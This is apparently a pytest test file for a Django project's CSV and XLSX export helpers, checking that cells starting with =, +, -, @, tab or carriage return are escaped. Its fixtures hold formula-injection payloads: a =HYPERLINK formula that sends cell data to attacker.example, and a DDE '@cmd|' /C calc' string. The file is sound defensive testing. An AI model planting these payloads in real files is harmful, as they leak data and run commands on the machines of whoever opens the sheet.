"""Exports escape formulas (issue #11, hole 7): a title typed as ``=HYPERLINK(…)`` stays text in
every XLSX export, and CSV cells starting with ``= + - @`` (or a tab or carriage return) are
escaped, through the one helper of :mod:`loa.core.exports`."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from loa.activities.importers.xlsx import activities_export_csv, activities_export_xlsx
from loa.activities.models import Activity
from loa.activities.services import activity_record
from loa.core.exports import csv_cell, xlsx_row

EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84 234 3822 111", "'+84 234 3822 111"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Tuyên truyền", "Tuyên truyền"),
        ("", ""),
        (5, 5),
        (-3, -3),  # a number stays a number
        (None, ""),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(value, expected):
    assert csv_cell(value) == expected


def test_xlsx_rows_keep_formula_looking_text_as_text():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(xlsx_row(ws, [EVIL, "=1+1", "Tin", 3, dt.date(2022, 10, 21)]))
    out = io.BytesIO()
    wb.save(out)
    _assert_no_formula(out.getvalue())
    again = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert again["A1"].value == EVIL and again["A1"].data_type == "s"
    assert again["D1"].value == 3


def _assert_no_formula(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


@pytest.fixture
def evil_activity(make_unit, make_user, channels):
    unit = make_unit("Phòng Văn hóa thử", code="vh-export")
    officer = make_user(unit, "officer")
    activity_record(
        actor=officer,
        unit=unit,
        date=dt.date.today(),
        channel=channels["PORTAL"],
        title=EVIL,
        description="@cmd|' /C calc'!A0",
    )
    return Activity.objects.filter(unit=unit).select_related("unit", "channel").prefetch_related("areas")


def test_the_activity_xlsx_export_holds_no_formula(evil_activity):
    data = activities_export_xlsx(evil_activity)
    _assert_no_formula(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert EVIL in [c.value for c in ws[2]]


def test_the_activity_csv_export_escapes_formula_cells(evil_activity):
    rows = list(csv.reader(io.StringIO(activities_export_csv(evil_activity).lstrip("\ufeff"))))
    assert "'" + EVIL in rows[1]
    assert "'@cmd|' /C calc'!A0" in rows[1]
    assert not [cell for cell in rows[1] if cell[:1] in ("=", "+", "-", "@")]
